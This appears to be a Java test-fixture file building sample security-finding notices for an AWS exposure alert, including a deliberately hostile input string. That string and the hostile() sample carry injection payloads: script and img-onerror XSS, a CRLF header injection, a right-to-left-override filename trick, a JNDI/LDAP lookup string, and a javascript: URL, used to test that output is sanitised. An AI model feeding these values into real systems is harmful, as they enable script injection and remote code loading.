// SPDX-License-Identifier: Apache-2.0
package io.breakwater.response.targets;

import io.breakwater.response.message.Activity;
import io.breakwater.response.message.MessageKind;
import io.breakwater.response.message.Notice;
import io.breakwater.response.message.Remedy;
import io.breakwater.response.message.Severity;
import io.breakwater.response.message.Subject;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;

/** Notices that tests of targets send. */
public final class Samples {
  /** As long as they are in Kinesis. */
  public static final String POSITION = "49590338271490256608559692538361571095921575989136588898";

  public static final String UID = "0f1e2d3c4b5a69788796a5b4c3d2e1f0";

  /** What is not to be seen by anybody, in no message and no description. */
  public static final String SECRET = "hush-hush-4711";

  /** What a person may be fooled by: turned writing, hidden characters, markup, commands. */
  public static final String HOSTILE =
      "a\u0000b\u001b[31mred\u0007\r\nX-Injected: 1\u202egpj.exe\u202c\u200f\u2066\ufeff"
          + "<script>alert(1)</script>[code]<img src=x onerror=alert(1)>[/code]"
          + "{\"key\":\"value\"} ^ORactive=true ${jndi:ldap://example.com} \ud83d\ude00\ud800 \uffff";

  private Samples() {}

  public static Notice notice() {
    return Notice.newBuilder()
        .setUid(UID)
        .setActivity(Activity.CREATE)
        .setRevision("fedcba98765432100123456789abcdef")
        .setEpisode(2)
        .setSeverity(Severity.HIGH)
        .setTitle("Potential credential stealing: an instance can be reached")
        .setDescription("The instance can be reached from everywhere and has weaknesses.")
        .setType("Exposure/Potential Impact/Credential Stealing")
        .setRule("credential-stealing")
        .setSubject(
            Subject.newBuilder()
                .setArn("arn:aws:ec2:eu-central-1:111122223333:instance/i-0abc")
                .setName("web-1")
                .setType("AWS::EC2::Instance")
                .setPartition("aws")
                .setAccount("111122223333")
                .setRegion("eu-central-1")
                .setOwner("team-web")
                .putTags("stage", "production"))
        .addTraits("It can be reached from the internet")
        .addTraits("It has a weakness that is exploited")
        .addRemedies(
            Remedy.newBuilder()
                .setTrait("reachable")
                .setText("Close the port.")
                .setReference("https://docs.example.com/close"))
        .setOpenedAt(Instant.parse("2026-11-27T09:00:00Z").toEpochMilli())
        .setChangedAt(Instant.parse("2026-11-27T09:30:00.250Z").toEpochMilli())
        .setArrivedAt(Instant.parse("2026-11-27T09:30:01.500Z").toEpochMilli())
        .setPosition(POSITION)
        .build();
  }

  public static Notice closed() {
    return notice().toBuilder()
        .setActivity(Activity.CLOSE)
        .setCloseReason("fixed")
        .setDetail("The port was closed")
        .build();
  }

  /** Everything that somebody else may have written is hostile, and much of it 300 KB long. */
  public static Notice hostile() {
    var much = HOSTILE + "x".repeat(300_000);
    var notice = notice().toBuilder().setTitle(much).setDescription(much).setDetail(much);
    notice.getSubjectBuilder().setName(much).setOwner(much).putTags(HOSTILE, HOSTILE);
    notice.setTraits(0, much).clearRemedies();
    notice.addRemedies(Remedy.newBuilder().setText(much).setReference("javascript:alert(1)"));
    return notice.build();
  }

  public static Message message(MessageKind kind, Notice notice) {
    return new Message(kind, "message-1", notice, "It is open again: have a look.");
  }

  /** What an outcome says to anybody who prints it. */
  public static String told(Outcome<?> outcome) {
    return outcome + " " + outcome.reason();
  }

  /** Characters that no text for people has. */
  public static List<String> unseen() {
    return List.of(
        "\u0000", "\u001b", "\u0007", "\r", "\u202e", "\u202c", "\u200f", "\u2066", "\ufeff",
        "\uffff");
  }

  public static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
